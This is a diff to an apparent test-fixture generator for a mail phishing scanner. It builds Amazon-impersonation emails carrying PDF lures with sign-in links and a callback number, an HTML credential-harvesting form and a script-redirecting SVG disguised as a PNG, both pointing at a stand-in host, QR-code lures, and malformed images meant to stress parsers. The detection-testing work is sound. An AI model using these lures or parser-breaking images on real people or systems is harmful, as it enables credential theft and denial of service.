@@ -13,6 +13,11 @@
 import { mkdirSync, writeFileSync } from 'node:fs';
 import { dirname, join } from 'node:path';
 import { fileURLToPath } from 'node:url';
+import { deflateSync } from 'node:zlib';
+import QRCode from 'qrcode';
+import pngjs from 'pngjs';
+import jpeg from 'jpeg-js';
+import omggif from 'omggif';
 
 const OUT = join(dirname(fileURLToPath(import.meta.url)), '..', 'fixtures', 'payloads');
 mkdirSync(OUT, { recursive: true });
@@ -77,3 +82,148 @@ write(
 // A binary file that starts like a header field: NULs throughout, no second field. Not mail.
 write('binary-starting-like-a-field.bin', Buffer.concat([Buffer.from('Key: '), Buffer.alloc(64), Buffer.from('\n\n'), Buffer.alloc(64, 1)]));
 
+
+// ---- Attachments ----
+
+/** A small valid PDF: each page a few lines of Helvetica text and link annotations with URI actions. */
+function makePdf(pages) {
+  // pages: [{ lines: [string], links: [{url, rect:[x1,y1,x2,y2]}] }]
+  const objs = [];
+  const add = (s) => { objs.push(s); return objs.length; };
+  const catalog = add(null), pagesId = add(null), font = add('<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>');
+  const kids = [];
+  for (const p of pages) {
+    const esc = (t) => t.replace(/[\\()]/g, (c) => '\\' + c);
+    const stream = 'BT /F1 12 Tf 50 750 Td 14 TL ' + p.lines.map((l) => `(${esc(l)}) '`).join(' ') + ' ET';
+    const content = add(`<< /Length ${stream.length} >>\nstream\n${stream}\nendstream`);
+    const annots = (p.links ?? []).map((l) => add(`<< /Type /Annot /Subtype /Link /Rect [${l.rect.join(' ')}] /Border [0 0 0] /A << /S /URI /URI (${l.url}) >> >>`));
+    kids.push(add(`<< /Type /Page /Parent ${pagesId} 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 ${font} 0 R >> >> /Contents ${content} 0 R${annots.length ? ` /Annots [${annots.map((a) => `${a} 0 R`).join(' ')}]` : ''} >>`));
+  }
+  objs[catalog - 1] = `<< /Type /Catalog /Pages ${pagesId} 0 R >>`;
+  objs[pagesId - 1] = `<< /Type /Pages /Kids [${kids.map((k) => `${k} 0 R`).join(' ')}] /Count ${kids.length} >>`;
+  let out = '%PDF-1.4\n';
+  const offsets = [];
+  objs.forEach((o, i) => { offsets.push(out.length); out += `${i + 1} 0 obj\n${o}\nendobj\n`; });
+  const xref = out.length;
+  out += `xref\n0 ${objs.length + 1}\n0000000000 65535 f \n` + offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`).join('');
+  out += `trailer\n<< /Size ${objs.length + 1} /Root ${catalog} 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
+  return Buffer.from(out, 'latin1');
+}
+
+/** A multipart/mixed mail with a short body and the given attachments ({ name, type, bytes }). */
+function withAttachments(headers, bodyLines, attachments) {
+  const boundary = '=_payload_fixture_boundary';
+  const lines = [...headers, `Content-Type: multipart/mixed; boundary="${boundary}"`, '', `--${boundary}`, 'Content-Type: text/plain; charset=utf-8', '', ...bodyLines];
+  for (const a of attachments) {
+    lines.push(`--${boundary}`, `Content-Type: ${a.type}${a.name ? `; name="${a.name}"` : ''}`, 'Content-Transfer-Encoding: base64');
+    lines.push(`Content-Disposition: ${a.inline ? 'inline' : 'attachment'}${a.name ? `; filename="${a.name}"` : ''}`, '');
+    lines.push(...(a.bytes.toString('base64').match(/.{1,76}/g) ?? []));
+  }
+  lines.push(`--${boundary}--`, '');
+  return lines.join(CRLF);
+}
+
+/** A sender with no Amazon in its name or address, and a subject without Amazon: all of it is in the attachment. */
+const PLAIN_HEADERS = [
+  'From: "Billing Department" <billing@invoice-center.example>',
+  'To: hanako.yamada@example.jp',
+  'Subject: Invoice #88213 - payment notice',
+  'Date: Mon, 23 Nov 2026 10:00:00 +0900',
+  'Message-ID: <payload-attachment@invoice-center.example>',
+  'MIME-Version: 1.0',
+];
+const SEE_ATTACHED = ['Please see the attached document.', ''];
+
+// 1. PDFs: the lure, the link and the phone number only inside the PDF.
+const pdfLink = makePdf([
+  {
+    lines: ['Amazon Account Security', 'Your Amazon account has been suspended.', 'Sign in to verify your account within 24 hours:', 'https://amaz0n-secure.example/ap/signin'],
+    links: [{ url: 'https://amaz0n-secure.example/ap/signin?ref=pdf', rect: [50, 650, 400, 700] }],
+  },
+]);
+write('pdf-with-link-amazon-phish.eml', withAttachments(PLAIN_HEADERS, SEE_ATTACHED, [{ name: 'account-notice.pdf', type: 'application/pdf', bytes: pdfLink }]));
+
+const pdfCallback = makePdf([
+  { lines: ['Order confirmation'] },
+  {
+    lines: ['Your Amazon order #114-2938401-3381 of $499.99 has been placed.', 'If you did not make this purchase,', 'please call Amazon customer support at +1 (808) 555-0143 to cancel.'],
+  },
+]);
+write('pdf-callback-number-amazon-phish.eml', withAttachments(PLAIN_HEADERS, SEE_ATTACHED, [{ name: 'invoice.pdf', type: 'application/pdf', bytes: pdfCallback }]));
+
+// An encrypted PDF (a Standard security handler with an unknown password) and a truncated one.
+const encrypted = Buffer.from(
+  pdfLink.toString('latin1').replace('/Root 1 0 R', '/Root 1 0 R /Encrypt << /Filter /Standard /V 1 /R 2 /O (aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa) /U (bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb) /P -4 >> /ID [(0123456789abcdef) (0123456789abcdef)]'),
+  'latin1',
+);
+const AMAZON_HEADERS = [
+  'From: "Amazon.co.jp" <no-reply@amazon-support-center.example>',
+  'To: hanako.yamada@example.jp',
+  'Subject: Amazon: your invoice',
+  'Date: Mon, 23 Nov 2026 10:00:00 +0900',
+  'Message-ID: <payload-amazon@amazon-support-center.example>',
+  'MIME-Version: 1.0',
+];
+write('pdf-encrypted-amazon-claim.eml', withAttachments(AMAZON_HEADERS, SEE_ATTACHED, [{ name: 'invoice.pdf', type: 'application/pdf', bytes: encrypted }]));
+write('pdf-damaged-amazon-claim.eml', withAttachments(AMAZON_HEADERS, SEE_ATTACHED, [{ name: 'invoice.pdf', type: 'application/pdf', bytes: pdfLink.subarray(0, Math.floor(pdfLink.length / 2)) }]));
+
+// 2. HTML and SVG by content.
+const fakePage = Buffer.from(
+  '<!DOCTYPE html><html><head><title>Amazon Sign-In</title></head><body><h1>Amazon</h1>' +
+    '<form action="https://amaz0n-secure.example/collect" method="post"><input name="email"><input type="password" name="password">' +
+    '<button>Sign in</button></form></body></html>',
+);
+write('html-page-declared-octet-stream.eml', withAttachments(PLAIN_HEADERS, SEE_ATTACHED, [{ name: 'Invoice_88213.pdf', type: 'application/octet-stream', bytes: fakePage }]));
+const svg = Buffer.from(
+  '<?xml version="1.0" encoding="UTF-8"?><svg xmlns="http://www.w3.org/2000/svg" width="200" height="100">' +
+    '<text x="10" y="50">Your Amazon account is locked. Sign in to verify your account.</text><script>window.location.href = "https://amaz0n-secure.example/ap/signin?u=" + "hanako";</script></svg>',
+);
+write('svg-with-script-named-png.eml', withAttachments(PLAIN_HEADERS, SEE_ATTACHED, [{ name: 'receipt.png', type: 'image/png', bytes: svg }]));
+
+// 3. QR codes: PNG (attached), JPEG (inline), GIF; the mail claims Amazon and is not authenticated.
+const QR_URL = 'https://amaz0n-secure.example/verify?id=58213';
+const matrix = QRCode.create(QR_URL, { errorCorrectionLevel: 'M' }).modules;
+/** The QR matrix as RGBA pixels, `scale` pixels a module, a quiet zone of 4 modules. */
+function qrPixels(scale) {
+  const n = matrix.size;
+  const side = (n + 8) * scale;
+  const data = Buffer.alloc(side * side * 4, 255);
+  for (let y = 0; y < n; y++)
+    for (let x = 0; x < n; x++) {
+      if (!matrix.get(y, x)) continue;
+      for (let dy = 0; dy < scale; dy++)
+        for (let dx = 0; dx < scale; dx++) {
+          const at = (((y + 4) * scale + dy) * side + (x + 4) * scale + dx) * 4;
+          data[at] = data[at + 1] = data[at + 2] = 0;
+        }
+    }
+  return { data, width: side, height: side };
+}
+const px = qrPixels(4);
+const png = new pngjs.PNG({ width: px.width, height: px.height });
+px.data.copy(png.data);
+const qrPng = pngjs.PNG.sync.write(png);
+const qrJpeg = Buffer.from(jpeg.encode({ data: px.data, width: px.width, height: px.height }, 90).data);
+const gifBuf = Buffer.alloc(px.width * px.height + 4096);
+const gw = new omggif.GifWriter(gifBuf, px.width, px.height, { palette: [0x000000, 0xffffff] });
+const indexed = new Uint8Array(px.width * px.height);
+for (let i = 0; i < indexed.length; i++) indexed[i] = px.data[i * 4] === 0 ? 0 : 1;
+gw.addFrame(0, 0, px.width, px.height, indexed);
+const qrGif = gifBuf.subarray(0, gw.end());
+const SCAN = ['Scan the QR code with your phone to verify your Amazon account.', ''];
+write('qr-png-amazon-phish.eml', withAttachments(AMAZON_HEADERS, SCAN, [{ name: 'verify.png', type: 'image/png', bytes: qrPng }]));
+write('qr-jpeg-amazon-phish.eml', withAttachments(AMAZON_HEADERS, SCAN, [{ name: 'verify.jpg', type: 'image/jpeg', bytes: qrJpeg, inline: true }]));
+write('qr-gif-amazon-phish.eml', withAttachments(AMAZON_HEADERS, SCAN, [{ name: 'verify.gif', type: 'image/gif', bytes: qrGif }]));
+
+// Images for the hostile suite (test/hostile/payloads.test.ts): the QR PNG cut short, a PNG that says it is
+// 100,000 x 100,000 pixels, and a PNG whose one IDAT inflates far beyond what its header says.
+const hostile = join(OUT, 'hostile');
+mkdirSync(hostile, { recursive: true });
+writeFileSync(join(hostile, 'qr-truncated.png'), qrPng.subarray(0, Math.floor(qrPng.length / 2)));
+const huge = Buffer.from(qrPng);
+huge.writeUInt32BE(100_000, 16);
+huge.writeUInt32BE(100_000, 20);
+writeFileSync(join(hostile, 'huge-dimensions.png'), huge);
+writeFileSync(join(hostile, 'qr.png'), qrPng);
+writeFileSync(join(hostile, 'qr.jpg'), qrJpeg);
+writeFileSync(join(hostile, 'qr.gif'), qrGif);
